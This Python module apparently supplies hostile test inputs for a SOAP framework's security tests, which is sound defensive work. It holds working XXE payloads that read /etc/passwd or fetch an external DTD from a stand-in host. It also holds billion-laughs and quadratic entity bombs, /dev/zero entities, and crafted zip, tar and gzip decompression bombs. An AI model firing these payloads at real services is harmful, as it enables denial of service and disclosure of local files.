"""Builders of hostile input: XML bombs, envelopes, signed messages, MTOM bodies, archives.

Pure functions of their arguments (and of the keys given): nothing here talks to a server.
Big payloads are built once per process (``functools.cache``) and are cheap to build: the
compression bombs are deflate streams assembled from one precompressed block, not a GiB of
zeros compressed on every run.
"""

from __future__ import annotations

import datetime
import functools
import hashlib
import io
import stat
import struct
import tarfile
import uuid
import zipfile
import zlib
from collections.abc import Callable

from lxml import etree

from dynasoar import ns
from dynasoar.package import UnpackLimits
from dynasoar.paths import samples_dir
from dynasoar.soap import addressing
from dynasoar.soap.envelope import SoapVersion, build_envelope, serialize
from dynasoar.soap.mtom_writer import MtomWriter, OutgoingAttachment
from dynasoar.soap.security import Credentials, sign
from dynasoar.soap.xop import xop_include

ENV = {"1.1": ns.SOAP11_ENV, "1.2": ns.SOAP12_ENV}
ECHO_NS = "urn:dynasoar:samples:echo"
ECHO_ACTION = ECHO_NS + "/Echo"
SP_PATH = "/dynasoar/ServiceProvider"
HP_PATH = "/dynasoar/HostProvider"
MiB = 1 << 20
GiB = 1 << 30

# -- plain SOAP ------------------------------------------------------------------------------


def media_type(version: str) -> str:
    return "text/xml; charset=utf-8" if version == "1.1" else "application/soap+xml; charset=utf-8"


def soap(version: str, body: bytes, header: bytes = b"", prolog: bytes = b"") -> bytes:
    """An envelope (prefix ``s``, and ``wsa`` bound) around raw Body and Header content."""
    head = b"<s:Header>" + header + b"</s:Header>" if header else b""
    return (
        prolog
        + b'<s:Envelope xmlns:s="%s" xmlns:wsa="%s">' % (ENV[version].encode(), ns.WSA.encode())
        + head
        + b"<s:Body>"
        + body
        + b"</s:Body></s:Envelope>"
    )


def echo(text: bytes = b"hi") -> bytes:
    return b'<e:Echo xmlns:e="%s"><e:text>%s</e:text></e:Echo>' % (ECHO_NS.encode(), text)


def wsa(
    to: str | None,
    action: str | None,
    message_id: str | None = "auto",
    extra: bytes = b"",
    prefix: bytes = b"wsa",
) -> bytes:
    """WS-Addressing header blocks under ``prefix`` (bound by :func:`soap` for 1.0)."""
    mid = f"urn:uuid:{uuid.uuid4()}" if message_id == "auto" else message_id
    out = b""
    for name, value in (("To", to), ("Action", action), ("MessageID", mid)):
        if value is not None:
            out += b"<%s:%s>%s</%s:%s>" % (
                prefix,
                name.encode(),
                value.encode(),
                prefix,
                name.encode(),
            )
    return out + extra


def unknown_header(version: str, *, must: str = "true", role: str | None = None) -> bytes:
    attr = "role" if version == "1.2" else "actor"
    targeted = b' s:%s="%s"' % (attr.encode(), role.encode()) if role else b""
    return b'<x:Unknown xmlns:x="urn:hostile:unknown" s:mustUnderstand="%s"%s>1</x:Unknown>' % (
        must.encode(),
        targeted,
    )


def unknown_block(version: SoapVersion) -> etree._Element:
    """:func:`unknown_header` as an element, for envelopes built with lxml."""
    env = version.envelope_ns
    block = etree.Element("{urn:hostile:unknown}Unknown", nsmap={"x": "urn:hostile:unknown"})
    block.set(f"{{{env}}}mustUnderstand", "true" if version is SoapVersion.SOAP12 else "1")
    block.text = "1"
    return block


def management(version: str, url: str, op: str, payload: bytes, extra: bytes = b"") -> bytes:
    """A request to the SP management port, addressed as the WSDL requires."""
    return soap(version, payload, wsa(url, f"{ns.DYN_SP}/{op}") + extra)


def list_services() -> bytes:
    return b'<sp:ListServices xmlns:sp="%s"/>' % ns.DYN_SP.encode()


# -- XML bombs -------------------------------------------------------------------------------


def doctype(subset: bytes, root: bytes = b"s:Envelope") -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE ' + root + b" [" + subset + b"]>"


XXE_FILE = doctype(b'<!ENTITY xxe SYSTEM "file:///etc/passwd">')
XXE_PARAMETER = doctype(
    b'<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote; <!ENTITY leak "&exfil;">'
)
# External subsets and parameter entities naming local files: libxml2 opened them even with
# load_dtd=False (and never returned from /dev/zero) until the parsers got a resolver.
DTD_DEV_ZERO = b'<!DOCTYPE s:Envelope SYSTEM "file:///dev/zero">'
PE_DEV_ZERO = doctype(b'<!ENTITY % z SYSTEM "/dev/zero"> %z;')
PE_LOCAL_FILE = doctype(b'<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;')
# Ten levels of ten: 10**10 "lol"s if anything expanded it.
LAUGHS = doctype(
    b'<!ENTITY l0 "lol">'
    + b"".join(b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 10))
)
# One 64 KiB entity referenced 1000 times: 64 MB from 72 KB, with no nesting to notice.
QUADRATIC_ENTITY = doctype(b'<!ENTITY big "' + b"B" * (64 * 1024) + b'">')
QUADRATIC_REFS = b"&big;" * 1000


def deep(depth: int) -> bytes:
    return b"<d>" * depth + b"</d>" * depth


def attribute_flood(count: int) -> bytes:
    """One element with ``count`` attributes: a quadratic duplicate check would crawl."""
    attrs = b" ".join(b"a%d='v'" % i for i in range(count))
    return b'<x:h xmlns:x="urn:hostile" ' + attrs + b"/>"


def namespace_flood(count: int) -> bytes:
    decls = b" ".join(b"xmlns:p%d='urn:p%d'" % (i, i) for i in range(count))
    return b'<x:h xmlns:x="urn:hostile" ' + decls + b"/>"


# -- signed messages to the HP ---------------------------------------------------------------


def hp_envelope(
    url: str,
    op: str,
    payload: etree._Element,
    version: SoapVersion = SoapVersion.SOAP12,
    extra_headers: tuple[etree._Element, ...] = (),
) -> etree._Element:
    headers = addressing.AddressingHeaders(
        to=url,
        action=f"{ns.DYN_HP}/{op}",
        message_id=addressing.new_message_id(),
        present=True,
    )
    return build_envelope(version, [payload], [*addressing.write_headers(headers), *extra_headers])


def signed(
    root: etree._Element,
    credentials: Credentials | None,
    *,
    now: datetime.datetime | None = None,
    ttl: float = 300,
) -> bytes:
    if credentials is not None:
        sign(root, credentials, now=now, timestamp_ttl=ttl)
    return serialize(root)


def hp_op(op: str) -> etree._Element:
    return etree.Element(f"{{{ns.DYN_HP}}}{op}", nsmap={"hp": ns.DYN_HP})


def hp_op_bytes(op: str) -> bytes:
    return b'<hp:%s xmlns:hp="%s"/>' % (op.encode(), ns.DYN_HP.encode())


def deploy_request(
    sha256: str, *, service: str = "Echo", include: str = "package@hostile"
) -> etree._Element:
    request = hp_op("Deploy")
    for name, value in (
        ("service", service),
        ("version", "1.0"),
        ("kind", "code"),
        ("stateless", "true"),
    ):
        etree.SubElement(request, f"{{{ns.DYN_HP}}}{name}").text = value
    etree.SubElement(request, f"{{{ns.DYN_HP}}}package").append(xop_include(include))
    etree.SubElement(request, f"{{{ns.DYN_HP}}}sha256").text = sha256
    return request


def signed_deploy(
    url: str,
    package: bytes,
    credentials: Credentials | None,
    *,
    declared: str | None = None,
    include: str = "package@hostile",
    now: datetime.datetime | None = None,
) -> tuple[str, bytes]:
    """A Deploy as an SP sends it, package attached: (Content-Type, body)."""
    digest = declared or hashlib.sha256(package).hexdigest()
    root = hp_envelope(url, "Deploy", deploy_request(digest, include=include))
    envelope = signed(root, credentials, now=now)
    return mtom(envelope, {"package@hostile": package}, "1.2", f"{ns.DYN_HP}/Deploy")


def publish_request(url: str, package: bytes, version: str = "1.1") -> tuple[str, bytes]:
    """A Publish to the SP management port, package attached: (Content-Type, body)."""
    payload = b'<sp:Publish xmlns:sp="%s"><sp:package>%s</sp:package></sp:Publish>' % (
        ns.DYN_SP.encode(),
        etree.tostring(xop_include("package@hostile")),
    )
    envelope = management(version, url, "Publish", payload)
    return mtom(envelope, {"package@hostile": package}, version, f"{ns.DYN_SP}/Publish")


def mtom(envelope: bytes, parts: dict[str, bytes], version: str, action: str) -> tuple[str, bytes]:
    attachments = [
        OutgoingAttachment(cid, "application/octet-stream", data) for cid, data in parts.items()
    ]
    writer = MtomWriter(envelope, attachments, version, action=action, boundary=BOUNDARY)
    return writer.content_type, b"".join(writer.iter_chunks())


BOUNDARY = "hostile-boundary-0b1c"
DASH = b"--" + BOUNDARY.encode()


def multipart(parts: list[bytes], *, close: bool = True, preamble: bytes = b"") -> bytes:
    """A multipart body from raw parts (each its header block, a blank line and content)."""
    out = preamble + b"".join(DASH + b"\r\n" + part + b"\r\n" for part in parts)
    return out + (DASH + b"--\r\n" if close else b"")


def mtom_type(
    version: str = "1.1", boundary: str = BOUNDARY, kind: str = "application/xop+xml"
) -> str:
    inner = "text/xml" if version == "1.1" else "application/soap+xml"
    return (
        f'multipart/related; type="{kind}"; start="<root@hostile>"; '
        f'start-info="{inner}"; boundary="{boundary}"'
    )


def root_part(envelope: bytes, version: str = "1.1") -> bytes:
    inner = "text/xml" if version == "1.1" else "application/soap+xml"
    return (
        f'Content-Type: application/xop+xml; charset=UTF-8; type="{inner}"\r\n'
        "Content-ID: <root@hostile>\r\n\r\n"
    ).encode() + envelope


def binary_part(cid: str, data: bytes, extra: bytes = b"") -> bytes:
    return (
        b"Content-Type: application/octet-stream\r\nContent-ID: <%s>\r\n" % cid.encode()
        + extra
        + b"\r\n"
        + data
    )


# -- packages --------------------------------------------------------------------------------


@functools.cache
def echo_files() -> tuple[tuple[str, bytes], ...]:
    root = samples_dir() / "echo"
    return tuple(sorted((p.name, p.read_bytes()) for p in root.iterdir() if p.is_file()))


def tar_gz(
    members: dict[str, bytes] | None = None, extra: tuple[tarfile.TarInfo, ...] = ()
) -> bytes:
    """The echo package (or ``members``) as .tar.gz, plus raw members such as links."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, data in (members if members is not None else dict(echo_files())).items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for info in extra:
            tar.addfile(info)
    return buffer.getvalue()


def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info


def device(name: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = tarfile.CHRTYPE
    info.devmajor, info.devminor = 1, 3  # /dev/null
    return info


def zip_of(members: dict[str, bytes], modes: dict[str, int] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            mode = (modes or {}).get(name)
            if mode is not None:
                info.external_attr = mode << 16
            zf.writestr(info, data)
    return buffer.getvalue()


def with_echo(**extra: bytes) -> dict[str, bytes]:
    return {**dict(echo_files()), **extra}


def manifest_with(old: bytes, new: bytes) -> dict[str, bytes]:
    files = dict(echo_files())
    files["dynasoar.toml"] = files["dynasoar.toml"].replace(old, new, 1)
    return files


SYMLINK_MODE = stat.S_IFLNK | 0o777

# -- compression bombs (cheap to build, a GiB and more to expand) ----------------------------

#: Expanded size of the bombs: past UnpackLimits().max_bytes.
BOMB_BYTES = UnpackLimits().max_bytes + 16 * MiB
_BLOCK = 16 * MiB


@functools.cache
def _zero_deflate() -> bytes:
    """Raw deflate of 16 MiB of zeros, byte-aligned and with no history: concatenable."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(b"\0" * _BLOCK) + compressor.flush(zlib.Z_FULL_FLUSH)


def _deflate_stream(prefix: bytes, zero_blocks: int, suffix: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of prefix + zeros + suffix: (stream, CRC-32, uncompressed size)."""
    block, zeros = _zero_deflate(), b"\0" * _BLOCK
    head = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = head.compress(prefix) + head.flush(zlib.Z_FULL_FLUSH)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15)
    last = tail.compress(suffix) + tail.flush(zlib.Z_FINISH)
    crc = zlib.crc32(prefix)
    for _ in range(zero_blocks):
        crc = zlib.crc32(zeros, crc)
    crc = zlib.crc32(suffix, crc)
    size = len(prefix) + zero_blocks * _BLOCK + len(suffix)
    return first + block * zero_blocks + last, crc, size


@functools.cache
def zip_bomb() -> bytes:
    """A well-formed zip: the echo package plus one member expanding to BOMB_BYTES of zeros
    (its local and central headers declare that size honestly)."""
    blocks = BOMB_BYTES // _BLOCK
    stream, crc, size = _deflate_stream(b"", blocks, b"")
    head = zip_of(dict(echo_files()))
    # Re-open the honest zip and append the bomb member by hand (zipfile cannot write a
    # precompressed stream): local header + data, then a new central directory.
    end = head.rindex(b"PK\x05\x06")
    _, _, _, _, entries, cd_size, cd_offset, _ = struct.unpack("<IHHHHIIH", head[end : end + 22])
    central = head[cd_offset : cd_offset + cd_size]
    name = b"bomb.bin"
    local_offset = cd_offset
    local = (
        struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(stream), size, len(name), 0
        )
        + name
    )
    entry = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(stream), size, len(name), 0, 0, 0, 0,
        0o644 << 16, local_offset,
    ) + name  # fmt: skip
    body = head[:cd_offset] + local + stream
    directory = central + entry
    eocd = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, entries + 1, entries + 1, len(directory), len(body), 0
    )
    return body + directory + eocd


@functools.cache
def tar_bomb() -> bytes:
    """A .tar.gz whose one extra member declares (and holds) BOMB_BYTES of zeros."""
    info = tarfile.TarInfo("bomb.bin")
    info.size = BOMB_BYTES
    header = info.tobuf(format=tarfile.GNU_FORMAT)
    files = io.BytesIO()
    with tarfile.open(fileobj=files, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name, data in echo_files():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
    # The files first, then the bomb member (its zeros are already block-aligned), then the
    # end-of-archive blocks.
    prefix = files.getvalue().rstrip(b"\0")
    prefix += b"\0" * (-len(prefix) % 512) + header
    return _gzip(prefix, BOMB_BYTES // _BLOCK, b"\0" * 1024)


@functools.cache
def gzip_padding_bomb() -> bytes:
    """The echo package as a .tar.gz, followed inside the same gzip stream by BOMB_BYTES of
    zeros after the tar's end: nothing to extract, all of it to decompress."""
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name, data in echo_files():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
    return _gzip(plain.getvalue(), BOMB_BYTES // _BLOCK, b"")


def _gzip(prefix: bytes, zero_blocks: int, suffix: bytes) -> bytes:
    stream, crc, size = _deflate_stream(prefix, zero_blocks, suffix)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + stream + struct.pack("<II", crc, size & 0xFFFFFFFF)


@functools.cache
def many_files(count: int) -> bytes:
    """The echo package and ``count`` empty files, as a zip (which lists them up front)."""
    return zip_of({**dict(echo_files()), **{f"f{i}": b"" for i in range(count)}})


Builder = Callable[[], bytes]
